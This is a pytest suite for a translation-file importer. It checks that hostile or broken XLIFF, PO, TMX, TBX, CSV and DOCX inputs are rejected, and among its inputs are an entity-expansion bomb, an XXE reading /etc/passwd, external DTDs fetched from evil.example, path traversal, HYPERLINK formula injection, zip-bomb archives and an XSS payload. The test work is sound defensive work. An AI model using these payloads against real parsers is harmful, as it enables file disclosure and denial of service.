"""Broken and dangerous files are refused whole: a line that names the place, exit code 2, nothing written."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.exchange.conftest import _Desk

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
BOMB = (
    '<!DOCTYPE xliff [\n<!ENTITY a "aaaaaaaaaa">\n<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
)
XLIFF = '<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2">\n'
FILE = '<file original="rules.md" source-language="en" target-language="fr" datatype="x"><body>\n'
UNIT = '<trans-unit id="1"><source>Rules</source><target>Règles</target></trans-unit>\n'
END = "</body></file></xliff>\n"
PO = 'msgid ""\nmsgstr ""\n"Language: fr\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
TBX = (
    HEAD + '<martif type="TBX"><text><body><termEntry id="c-new"><langSet xml:lang="en"><tig><term>gate</term></tig>'
    '</langSet><langSet xml:lang="fr"><tig><term>portail</term></tig></langSet></termEntry></body></text></martif>'
)
WHOLE = HEAD + XLIFF + FILE + UNIT + END

CASES = {
    "entities": ("a.xlf", HEAD + BOMB + XLIFF + FILE + "<trans-unit id='1'><source>&c;</source></trans-unit>" + END, 3),
    "external entity": (
        "a.xlf",
        HEAD + '<!DOCTYPE xliff [\n<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + XLIFF + FILE + UNIT + END,
        3,
    ),
    "external dtd": ("a.xlf", HEAD + '<!DOCTYPE xliff SYSTEM "http://evil.example/x.dtd">\n' + XLIFF + FILE + END, 2),
    "parameter entity in a memory": (
        "a.tmx",
        HEAD + '<!DOCTYPE tmx SYSTEM "tmx14.dtd" [<!ENTITY % x SYSTEM "http://evil.example/">]>\n<tmx/>',
        2,
    ),
    "dtd of a memory elsewhere": ("a.tmx", HEAD + '<!DOCTYPE tmx SYSTEM "http://evil.example/tmx14.dtd">\n<tmx/>', 2),
    "truncated": ("a.xlf", WHOLE[: len(WHOLE) // 2 + 60], 4),
    "not XML": ("a.tbx", "hello", 1),
    "not UTF-8": ("a.xlf", WHOLE.encode().replace("è".encode(), b"\xe8"), 4),
    "other language": ("a.xlf", WHOLE.replace('"fr"', '"de"'), 3),
    "catalogue in another language": ("a.po", PO.replace("fr", "de") + 'msgid "Rules"\nmsgstr "Regeln"\n', 1),
    "a character that is none": ("a.xlf", WHOLE.replace("Règles", "R\0gles"), 4),
    "termbase in another language": (
        "a.tbx",
        '<martif type="TBX"><text><body><termEntry id="c1">\n'
        '<langSet xml:lang="en"><tig><term>gate</term></tig></langSet>\n'
        '<langSet xml:lang="de"><tig><term>Tor</term></tig></langSet></termEntry></body></text></martif>',
        3,
    ),
    "no language": ("a.xlf", WHOLE.replace(' target-language="fr"', ""), 3),
    "several languages": (
        "a.xlf",
        WHOLE.replace("</file>", "</file>" + FILE.replace('"fr"', '"en"') + "</body></file>"),
        5,
    ),
    "no id": ("a.xlf", WHOLE.replace(' id="1"', ""), 4),
    "id twice": ("a.xlf", WHOLE.replace(UNIT, UNIT * 2), 5),
    "path traversal": ("a.xlf", WHOLE.replace("rules.md", "../../../etc/passwd"), 3),
    "absolute path": ("a.xlf", WHOLE.replace("rules.md", "/etc/passwd"), 3),
    "truncated catalogue": ("a.po", PO + 'msgid "Rules"\nmsgstr "Règ', 7),
    "catalogue without its end": ("a.po", PO + 'msgid "Rules"\n', 7),
    "catalogue without language": ("a.po", 'msgid "Rules"\nmsgstr "Règles"\n', 1),
    "catalogue that is none": ("a.po", "<html>\n", 1),
    "catalogue with a message twice": ("a.po", PO + 'msgid "A"\nmsgstr "B"\n\nmsgid "A"\nmsgstr "C"\n', 9),
    "xliff 2 without languages": (
        "a.xlf",
        '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0"><file id="1"/></xliff>',
        1,
    ),
    "memory without a unit": ("a.tmx", "<tmx version='1.4'><header/><body/></tmx>", 1),
    "table without a language": ("a.csv", "concept,en\nx,y\n", 1),
    "table with a cell too many": ("a.csv", "concept,en,fr\nx,y,z\na,b,c,d\n", 3),
    "table that is cut off": ("a.csv", "concept,en,fr\ngate,gate,portail\nfence,fen", 3),
    "table with a formula": ("a.csv", 'concept,en,fr\ngate,"=HYPERLINK(""http://evil.example"")",portail\n', 2),
    "table with a column twice": ("a.csv", "concept,en,fr,fr\ngate,gate,portail,grille\n", 1),
    "termbase with a formula": ("a.tbx", TBX.replace("gate", "=HYPERLINK(&quot;http://evil.example&quot;)"), 2),
    "in no encoding": ("a.tbx", TBX.replace("UTF-8", "undefined"), 1),
    "empty": ("a.xlf", "", None),
    "unknown": ("a.exe", "MZ", None),
    "not a Word file": ("a.docx", "PK\x03\x04 and no more", None),
}


@pytest.mark.parametrize("case", CASES)
def test_a_bad_file_is_refused_whole_with_its_line(desk: _Desk, case: str) -> None:
    name, content, line = CASES[case]
    (desk.root / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    before = desk.files()
    answer = desk("import", name, "--by", "Ana")
    assert (answer.code, answer.out) == (2, ""), answer.out + answer.err
    assert answer.err.startswith(f"{name}:{line}: " if line else f"{name}: "), answer.err
    assert answer.err.count("\n") == 1
    assert desk.files() == before


def test_one_bad_file_keeps_the_good_ones_out(desk: _Desk) -> None:
    path = desk.export("po", out="good.po")
    path.write_text(path.read_text("utf-8").replace("Sonnez au portail.", "Sonnez."), "utf-8")
    (desk.root / "bad.xlf").write_text(WHOLE[:-20])
    before = desk.files()
    answer = desk("import", "good.po", "bad.xlf")
    assert answer.code == 2
    assert desk.files() == before


def test_where_an_agreement_cannot_be_written_nothing_is(desk: _Desk) -> None:
    path = desk.export("po", out="a.po")
    text = path.read_text("utf-8").replace("Sonnez au portail.", "Sonnez.").replace("fumer ici", "fumer")
    path.write_text(text.replace("#, fuzzy\n", ""), "utf-8")
    (desk.root / "memory/en-fr").mkdir()
    (desk.root / "memory/en-fr/rules.jsonl").mkdir()
    before = desk.files()
    answer = desk("import", "a.po", "--by", "Ana")
    assert desk.files() == before
    assert answer.code == 2
    assert answer.err.endswith("memory/en-fr/rules.jsonl: Is a directory\n")


def test_a_catalogue_for_a_project_without_entries_is_refused(desk: _Desk) -> None:
    for path in (desk.root / "content").rglob("*.md"):
        path.unlink()
    (desk.root / "a.po").write_text(PO + 'msgid "Rules"\nmsgstr "Règles"\n', "utf-8")
    answer = desk("import", "a.po")
    assert (answer.code, answer.err) == (2, "a.po: there is no entry in en; nothing was imported\n")


def archive(parts: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return content.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.mark.parametrize(
    ("parts", "told"),
    [
        ({"word/document.xml": b" " * (70 << 20)}, "it unpacks to more than 64 MB"),
        ({f"{n}": b"" for n in range(2100)}, "or 2000 parts"),
        ({"x": b""}, "it has no document in it"),
        ({"word/document.xml": BOMB.encode() + b"<x>&c;</x>"}, "it declares entities"),
        ({"word/document.xml": f'<w:document xmlns:w="{W}"/>'.encode()}, "no table in it that diglot export made"),
    ],
)
def test_a_hostile_word_file_is_refused(desk: _Desk, parts: dict[str, bytes], told: str) -> None:
    (desk.root / "a.docx").write_bytes(archive(parts))
    answer = desk("import", "a.docx")
    assert answer.code == 2
    assert answer.err.startswith("a.docx")
    assert told in answer.err


def test_a_word_file_compressed_in_another_way_is_refused(desk: _Desk) -> None:
    with zipfile.ZipFile(desk.root / "a.docx", "w", zipfile.ZIP_LZMA) as packed:
        packed.writestr("word/document.xml", b"<x/>")
    data = bytearray((desk.root / "a.docx").read_bytes())
    data[60:64] = b"\xff\xff\xff\xff"
    (desk.root / "a.docx").write_bytes(bytes(data))
    assert desk("import", "a.docx").err.startswith("a.docx: a part of it is compressed in another way")


def test_a_part_that_is_larger_than_its_directory_says_is_refused(desk: _Desk) -> None:
    data = bytearray(archive({"word/document.xml": b"<x>" + b" " * 1000 + b"</x>"}))
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = (5).to_bytes(4, "little")
    (desk.root / "a.docx").write_bytes(bytes(data))
    assert desk("import", "a.docx").code == 2


def test_translations_in_another_language_are_refused(desk: _Desk) -> None:
    path = desk.export("po", "rules", out="a.po")
    english = "You should not smoke when you are in here, because it is not good for you and the others."
    path.write_text(path.read_text("utf-8").replace("Défense de fumer ici.", english), "utf-8")
    answer = desk("import", "a.po")
    assert (answer.code, answer.err) == (2, "a.po: its translations read like en, not fr; nothing was imported\n")


def test_a_few_words_in_another_language_may_be_a_title(desk: _Desk) -> None:
    path = desk.export("po", "rules", out="a.po")
    path.write_text(path.read_text("utf-8").replace("Règlement", "The rules of the house"), "utf-8")
    assert desk.take(path)["applied"] == 1


def test_many_words_in_the_right_language_are_taken(desk: _Desk) -> None:
    path = desk.export("po", "rules", out="a.po")
    french = "Il est interdit de fumer dans ce lieu, parce que cela n’est bon ni pour vous ni pour les autres."
    path.write_text(path.read_text("utf-8").replace("Défense de fumer ici.", french), "utf-8")
    assert desk.take(path)["applied"] == 2


def test_a_script_in_a_translation_reaches_no_entry(desk: _Desk) -> None:
    path = desk.export("xliff", "rules", out="a.xlf")
    text = path.read_text("utf-8").replace("Règlement</target>", "&lt;img src=x onerror=alert(1)&gt;</target>")
    path.write_text(text, "utf-8")
    report = desk.take(path)
    assert (report["applied"], report["refused"]) == (0, 1)


@pytest.mark.parametrize("code", ["zz", "110000", "D800", "-1", "0007"])
def test_a_character_that_no_xml_can_hold_is_left_out(desk: _Desk, code: str) -> None:
    path = desk.export("xliff2", "rules", out="a.xlf")
    path.write_text(path.read_text("utf-8").replace("Règlement<", f'Règ<cp hex="{code}"/>les<'), "utf-8")
    assert desk.take(path)["applied"] == 1
    assert desk.text("content/fr/rules.md").startswith("# Règles\n")


@pytest.mark.parametrize("code", ["FFFFFF", "D800", "0000", "000A"])
def test_a_concept_may_name_itself_by_any_code(desk: _Desk, code: str) -> None:
    (desk.root / "a.tbx").write_text(
        TBX.replace("new", f"new_x{code}_").replace("gate", "hedge").replace("portail", "haie"), "utf-8"
    )
    assert desk("import", "a.tbx").code == 0
    assert desk.text("memory/terms.csv").splitlines()[-1].startswith("new")


def test_a_mark_of_another_entry_does_no_harm(desk: _Desk) -> None:
    path = desk.export("xliff", "parking", out="a.xlf")
    text = path.read_text("utf-8").replace("parking.md", "rules.md").replace("Sonnez au portail.", "Sonnez.")
    path.write_text(text, "utf-8")
    before = desk.files()
    assert desk.take(path)["conflicts"] == 1
    assert desk.files() == before


def test_a_folder_that_ends_like_a_language_is_none(desk: _Desk) -> None:
    path = desk.export("xliff", "rules", out="a.xlf")
    path.write_text(path.read_text("utf-8").replace('"rules.md"', '"garden/rules.md"'), "utf-8")
    answer = desk("import", "a.xlf")
    assert (answer.code, answer.err) == (2, "a.xlf:3: no entry 'garden/rules' in the corpus; nothing was imported\n")
